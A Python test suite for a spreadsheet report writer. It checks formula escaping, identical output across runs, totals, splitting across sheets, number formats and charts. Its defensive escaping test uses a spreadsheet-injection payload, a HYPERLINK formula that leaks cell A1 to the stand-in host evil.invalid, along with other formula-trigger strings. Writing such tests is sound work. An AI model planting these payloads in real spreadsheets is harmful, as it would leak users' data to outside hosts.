import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from engine.columns import Column, Table
from engine.report import write
from engine.report.input import ReportInput
from engine.report.workbook import write_workbook
from engine.report.workbook.sheets import ROWS, SheetNames
from tests.report.synthetic import run

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
NASTY = [
    FORMULA,
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "{=1}",
    "http://evil.invalid",
    "mailto:a@evil.invalid",
    "007",
    "1e6",
    "",
    None,
]


def of(*tables: Table) -> ReportInput:
    return ReportInput("plan", "USD", ("2027-01",), tables)


def text_table(values: list[str | None], name: str = "alignment") -> Table:
    return Table(
        name, (Column("name", "text", "a name"),), pd.DataFrame({"name": pd.Series(values, dtype=object)})
    )


def cells(path: Path, sheet: str) -> list[tuple[object, ...]]:
    book = openpyxl.load_workbook(path)
    return list(book[sheet].iter_rows(min_row=2, values_only=True))


def test_text_is_always_text_never_a_formula_or_a_link(tmp_path: Path) -> None:
    path = tmp_path / "workbook.xlsx"
    write_workbook(path, replace(of(text_table(NASTY)), title=FORMULA, description="=1+1"))
    book = openpyxl.load_workbook(path)
    found = [
        (cell.data_type, cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert {kind for kind, _ in found} <= {"s", "n"}
    assert [cell.value for cell in book["alignment"]["A"][1:]][: len(NASTY) - 2] == NASTY[:-2]
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
    assert not [text for text in sheets if "<f>" in text or "hyperlink" in text]


def test_the_same_report_gives_the_same_bytes(tmp_path: Path) -> None:
    report = run()
    write_workbook(tmp_path / "a.xlsx", report)
    write_workbook(tmp_path / "b.xlsx", report)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_every_table_is_there_with_its_totals(tmp_path: Path) -> None:
    report = run()
    write_workbook(tmp_path / "w.xlsx", report)
    book = openpyxl.load_workbook(tmp_path / "w.xlsx", read_only=True)
    for table in report.tables:
        rows = list(book[table.name].iter_rows(min_row=2, values_only=True))
        assert len(rows) == len(table.frame)
        for index, column in enumerate(table.columns):
            if column.type == "money":
                written = sum(round(float(str(row[index])) * 100) for row in rows if row[index] is not None)
                assert written == int(table.frame[column.name].sum())
    book.close()


def test_rows_beyond_a_sheet_run_over_further_sheets(tmp_path: Path) -> None:
    values: list[str | None] = [f"row {number}" for number in range(25)]
    write_workbook(tmp_path / "w.xlsx", of(text_table(values)), rows=10)
    sheets = ("alignment", "alignment (2)", "alignment (3)")
    assert [row[0] for sheet in sheets for row in cells(tmp_path / "w.xlsx", sheet)] == values
    assert ", ".join(sheets) in [row[0] for row in cells(tmp_path / "w.xlsx", "Contents")]


@pytest.mark.slow
def test_a_million_rows_are_split_where_a_sheet_ends(tmp_path: Path) -> None:
    count = ROWS + 2
    write_workbook(tmp_path / "w.xlsx", of(text_table(["one result row"] * count)))
    book = openpyxl.load_workbook(tmp_path / "w.xlsx", read_only=True)
    assert [book[name].max_row for name in ("alignment", "alignment (2)")] == [ROWS + 1, 3]
    book.close()


def test_blank_and_infinite_cells_stay_empty_and_dates_are_dates(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "when": pd.to_datetime(["2027-03-01", None]).astype("datetime64[us]"),
            "amount": pd.array([123456, None], dtype="Int64"),
            "share": [0.5, float("inf")],
            "on": [True, False],
        }
    )
    columns = (
        Column("when", "date", ""),
        Column("amount", "money", ""),
        Column("share", "ratio", ""),
        Column("on", "flag", ""),
    )
    write_workbook(tmp_path / "w.xlsx", of(Table("goals", columns, frame)))
    first, second = cells(tmp_path / "w.xlsx", "goals")
    assert (str(first[0])[:10], *first[1:]) == ("2027-03-01", 1234.56, 0.5, True)
    assert second == (None, None, None, False)


def test_rows_with_units_of_their_own_show_ratios_as_percentages(tmp_path: Path) -> None:
    path = tmp_path / "workbook.xlsx"
    columns = (Column("kpi", "text", "name"), Column("unit", "text", "unit"), Column("mean", "real", "mean"))
    frame = pd.DataFrame({"kpi": ["won", "win_rate"], "unit": ["deals", "ratio"], "mean": [64.0, 0.305]})
    write_workbook(path, of(Table("kpis", columns, frame)))
    sheet = openpyxl.load_workbook(path)["kpis"]
    assert [sheet.cell(row, 3).number_format for row in (2, 3)] == ["#,##0.00", "0.0%"]
    assert [sheet.cell(row, 3).value for row in (2, 3)] == [64, 0.305]


def test_a_full_run_has_a_native_chart_for_each_figure(tmp_path: Path) -> None:
    write_workbook(tmp_path / "w.xlsx", run())
    with zipfile.ZipFile(tmp_path / "w.xlsx") as archive:
        charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
        titles = " ".join(archive.read(name).decode() for name in charts)
    assert len(charts) == 9
    for title in (
        "Balance: potential",
        "Balance: workload",
        "Bookings to date",
        "Comp cost",
        "Attainment",
        "Stages",
        "Pay for performance",
        "Cost by company attainment",
        "Cash and expense per period",
    ):
        assert title in titles


def test_a_run_without_tables_still_makes_a_workbook(tmp_path: Path) -> None:
    write_workbook(tmp_path / "w.xlsx", of())
    assert openpyxl.load_workbook(tmp_path / "w.xlsx").sheetnames == ["Contents", "Charts", "Chart data"]


def test_sheet_names_are_short_clean_and_unique() -> None:
    names = SheetNames(("Contents",))
    assert names.name("contents") == "contents (2)"
    assert names.name("a/b:c*[x]?") == "a_b_c__x__"
    assert len(names.name("x" * 40)) == 31
    assert len(names.name("x" * 40)) == 31
    assert names.name("x" * 40) == "x" * 27 + " (3)"


def test_money_of_a_single_person_is_in_no_sheet(tmp_path: Path) -> None:
    write_workbook(tmp_path / "w.xlsx", replace(run(), people_by_plan={"AE": 4, "AM": 1}))
    assert {row[0] for row in cells(tmp_path / "w.xlsx", "cost")} == {"all"}
    book = openpyxl.load_workbook(tmp_path / "w.xlsx")
    assert "money" not in [cell.value for cell in book["pay_curve"][1]]


def test_write_leaves_both_files(tmp_path: Path) -> None:
    write(tmp_path, run())
    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.html", "workbook.xlsx"]


def test_measured_numbers_have_the_decimals_of_their_column_and_print_with_their_head(tmp_path: Path) -> None:
    columns = tuple(Column(name, "real", "A number.") for name in ("price", "hours", "count"))
    rows = pd.DataFrame({"price": [0.0468, 0.0048], "hours": [12.5, 8.0], "count": [3.0, 12.0]})
    write_workbook(tmp_path / "book.xlsx", replace(run(), tables=(Table("rates", columns, rows, "Rates."),)))
    sheet = openpyxl.load_workbook(tmp_path / "book.xlsx")["rates"]
    assert [cell.number_format for cell in sheet[2]] == ["#,##0.0000", "#,##0.00", "#,##0"]
    assert (sheet.print_title_rows, sheet.page_setup.orientation) == ("$1:$1", "landscape")
